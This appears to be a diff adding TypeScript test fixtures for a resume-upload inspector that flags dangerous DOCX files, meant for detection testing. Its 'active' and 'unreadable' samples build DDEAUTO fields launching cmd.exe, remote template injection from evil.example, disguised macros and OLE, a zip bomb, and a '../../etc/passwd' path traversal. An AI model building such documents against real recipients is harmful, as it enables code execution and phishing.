@@ -1,0 +1,264 @@
+import { docx, type Entry, relationship, zip } from './resume-files.ts';
+
+/** DOCX resumes of all kinds, with what an inspection has to say of them. */
+
+type Harmless = readonly [name: string, file: Buffer];
+type Telling = readonly [name: string, file: Buffer, finding: string];
+
+const ole = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]);
+const wordNames = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
+const header = (xml: string): Entry => ({
+  name: 'word/header1.xml',
+  content: `<?xml version="1.0" encoding="UTF-8"?><w:hdr ${wordNames}>${xml}</w:hdr>`,
+});
+const field = (...codes: readonly string[]) =>
+  `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${codes.map((code) => `<w:r><w:instrText>${code}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`;
+const relations = (name: string, content: string | Buffer): Entry => ({ name, content });
+const relationType = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+const template = (mode: string, target = 'http://evil.example/t.dotm') =>
+  `<?xml version="1.0"?><Relationships><Relationship Id="r9" Type="${relationType}/attachedTemplate" Target="${target}" TargetMode="${mode}"/></Relationships>`;
+const internal = (type: string, target: string) =>
+  relations(
+    'word/_rels/document.xml.rels',
+    `<Relationships><Relationship Id="r9" Type="${relationType}/${type}" Target="${target}"/></Relationships>`,
+  );
+const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');
+const contentTypes = (more: string) =>
+  `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>${more}</Types>`;
+const picture = { name: 'word/media/image1.png', content: Buffer.from('89504e470d0a1a0a', 'hex') };
+const svg = '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "a" "b"><svg xmlns="http://www.w3.org/2000/svg"/>';
+const elsewhere = 'a part that is loaded from elsewhere (attachedTemplate)';
+const object = 'an embedded object or file';
+const bomb = Buffer.alloc(300 * 1024 * 1024);
+
+export const harmlessDocx: readonly Harmless[] = [
+  ['plain', docx()],
+  ['in Devanagari', docx([], 'आशा राणे')],
+  [
+    'with character references',
+    docx([], 'R&amp;D, Zo&#235;, &lt;script&gt; TargetMode=&quot;External&quot;'),
+  ],
+  ['with links to web and mail', docx([relationship('hyperlink', 'https://asha.example')])],
+  ['with a picture', docx([picture])],
+  ['with a vector picture', docx([{ name: 'word/media/image2.svg', content: svg }])],
+  [
+    'with a vector picture that has entities of its own',
+    docx([
+      {
+        name: 'word/media/image3.svg',
+        content: '<!DOCTYPE svg [<!ENTITY s "http://www.w3.org/2000/svg">]><svg xmlns="&s;"><a>&s;</a></svg>',
+      },
+    ]),
+  ],
+  ['with page numbers and a linked heading', docx([header(field(' PAGE ') + field(' TOC \\o "1-3" \\h '))])],
+  [
+    'with a form field and a link as a field',
+    docx([header(field(' FORMTEXT ') + field(' HYPERLINK "https://asha.example/import" '))]),
+  ],
+  ['in UTF-16', docx([{ name: 'word/styles.xml', content: utf16(`<w:styles ${wordNames}/>`) }])],
+  [
+    'with stored parts',
+    docx([{ name: 'word/media/photo.jpg', content: Buffer.alloc(90_000, 7), method: 0 }]),
+  ],
+  [
+    'with many parts',
+    docx(
+      Array.from({ length: 300 }, (_, index) => ({ name: `word/media/${index}.png`, content: `${index}` })),
+    ),
+  ],
+];
+
+export const activeDocx: readonly Telling[] = [
+  [
+    'B8: a character reference in TargetMode',
+    docx([relations('word/_rels/document.xml.rels', template('&#69;xternal'))]),
+    elsewhere,
+  ],
+  [
+    'B8: relations in UTF-16',
+    docx([relations('word/_rels/document.xml.rels', utf16(template('External')))]),
+    elsewhere,
+  ],
+  [
+    'B8: relations in UTF-16 without a mark',
+    docx([relations('word/_rels/document.xml.rels', Buffer.from(template('External'), 'utf16le'))]),
+    elsewhere,
+  ],
+  [
+    'B8: relations called .RELS',
+    docx([relations('word/_rels/settings.xml.RELS', template('External'))]),
+    elsewhere,
+  ],
+  [
+    'B8: a template at an address that ends like a link',
+    docx([
+      relations(
+        'word/_rels/document.xml.rels',
+        template('External', 'http://evil.example/relationships/hyperlink'),
+      ),
+    ]),
+    elsewhere,
+  ],
+  [
+    'B8: OLE called a picture',
+    docx([{ name: 'word/media/x.bin', content: ole }]),
+    'macros or an embedded object',
+  ],
+  [
+    'B8: macros under another name',
+    docx([{ name: 'word/media/photo.jpg', content: ole }]),
+    'macros or an embedded object',
+  ],
+  [
+    'B8: macros by their content type',
+    docx(
+      [{ name: 'word/notes.bin', content: 'x' }],
+      'CV',
+      contentTypes(
+        '<Override PartName="/word/notes.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
+      ),
+    ),
+    'macros',
+  ],
+  [
+    'a document with macros by its content type',
+    docx(
+      [],
+      'CV',
+      contentTypes(
+        '<Default Extension="xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
+      ),
+    ),
+    'macros',
+  ],
+  [
+    'B8: altChunk',
+    docx([internal('aFChunk', '/word/chunk.html'), { name: 'word/chunk.html', content: '<html/>' }]),
+    'another document inside (altChunk)',
+  ],
+  ['B8: altChunk as an element', docx([header('<w:altChunk/>')]), 'another document inside (altChunk)'],
+  [
+    'B8: DDEAUTO',
+    docx([header(field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '))]),
+    'a field that fetches or starts something (DDEAUTO)',
+  ],
+  [
+    'B8: DDEAUTO over several runs',
+    docx([header(field('D', '<![CDATA[DE]]>', '&#65;UTO calc'))]),
+    'a field that fetches or starts something (DDEAUTO)',
+  ],
+  [
+    'a part called a picture',
+    docx([{ ...header(field(' DDE excel x ')), name: 'word/header1.svg' }]),
+    'a field that fetches or starts something (DDE)',
+  ],
+  [
+    'a part without an ending that begins with blanks',
+    docx([
+      {
+        name: 'word/header1',
+        content: `${' '.repeat(300)}<w:hdr ${wordNames}>${field(' DDE excel x ')}</w:hdr>`,
+      },
+    ]),
+    'a field that fetches or starts something (DDE)',
+  ],
+  [
+    'DDE in a simple field',
+    docx([header('<w:fldSimple w:instr=" DDE excel x "/>')]),
+    'a field that fetches or starts something (DDE)',
+  ],
+  [
+    'a field without an end',
+    docx([header('<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE x</w:instrText></w:r>')]),
+    'a field that fetches or starts something (DDE)',
+  ],
+  [
+    'a field whose name another field makes',
+    docx([
+      header(
+        `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${field(' REF a ')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`,
+      ),
+    ]),
+    'a field whose name is computed',
+  ],
+  [
+    'a picture from elsewhere',
+    docx([relationship('image', 'http://evil.example/p.png')]),
+    'a part that is loaded from elsewhere (image)',
+  ],
+  [
+    'a frame from elsewhere',
+    docx([relationship('frame', 'http://evil.example/f')]),
+    'a part that is loaded from elsewhere (frame)',
+  ],
+  [
+    'a link to a share',
+    docx([relationship('hyperlink', 'file://evil.example/a.exe')]),
+    'a link to a file or program',
+  ],
+  [
+    'a link to a share as a field',
+    docx([header(field(' HYPERLINK "\\\\\\\\evil\\\\a" '))]),
+    'a link to a file or program',
+  ],
+  [
+    'an embedded workbook',
+    docx([
+      { name: 'word/embeddings/a.xlsx', content: zip([]).toString('latin1').padStart(30, 'PK\x03\x04') },
+    ]),
+    object,
+  ],
+  ['an embedded object by its relation', docx([internal('oleObject', 'a.bin')]), object],
+  ['an ActiveX control', docx([header('<w:control/>')]), 'an ActiveX control'],
+  ['an add-in', docx([internal('webextension', 'a.xml')]), 'an Office add-in'],
+  ['a program', docx([{ name: 'word/media/a.png', content: 'MZ\x90' }]), 'a program'],
+];
+
+export const unreadableDocx: readonly Telling[] = [
+  [
+    'B8: a bomb of 300 MB that claims 1000 bytes',
+    docx([{ name: 'word/media/a.png', content: bomb, claimedBytes: 1000 }]),
+    'damaged',
+  ],
+  [
+    'a bomb of 300 MB',
+    docx([{ name: 'word/media/a.png', content: bomb }]),
+    'larger than 50 MB when unpacked',
+  ],
+  [
+    'a locked document',
+    Buffer.concat([ole, Buffer.from('EncryptedPackage', 'utf16le')]),
+    'locked with a password',
+  ],
+  ['a locked part', docx([{ name: 'word/a.xml', content: 'x', encrypted: true }]), 'locked with a password'],
+  [
+    'an odd compression',
+    docx([{ name: 'word/a.xml', content: 'x', method: 12 }]),
+    'packed in an unusual way',
+  ],
+  ['a name twice', docx([{ name: 'word/Document.xml', content: '<a/>' }]), 'with two parts of one name'],
+  ['a path out of the archive', docx([{ name: '../../etc/passwd', content: 'x' }]), 'damaged'],
+  [
+    '2000 parts',
+    docx(Array.from({ length: 2000 }, (_, index) => ({ name: `${index}`, content: '' }))),
+    'of too many parts',
+  ],
+  [
+    'a document type',
+    docx([{ name: 'word/a.xml', content: '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' }]),
+    'with a document type declaration',
+  ],
+  ['XML that is not well formed', docx([{ name: 'word/a.xml', content: '<a><b></a>' }]), 'damaged'],
+  [
+    'relations in an unknown encoding',
+    docx([{ name: 'a.rels', content: '<?xml version="1.0" encoding="UTF-7"?><a/>' }]),
+    'written in an unknown encoding',
+  ],
+  [
+    'relations in EBCDIC',
+    docx([{ name: 'a.rels', content: Buffer.from('4c6fa7949340', 'hex') }]),
+    'with a part that is no XML',
+  ],
+  ['a plain archive', zip([{ name: 'a.txt', content: 'x' }]), 'no Word document inside'],
+  ['half a document', docx().subarray(0, 300), 'damaged'],
+];
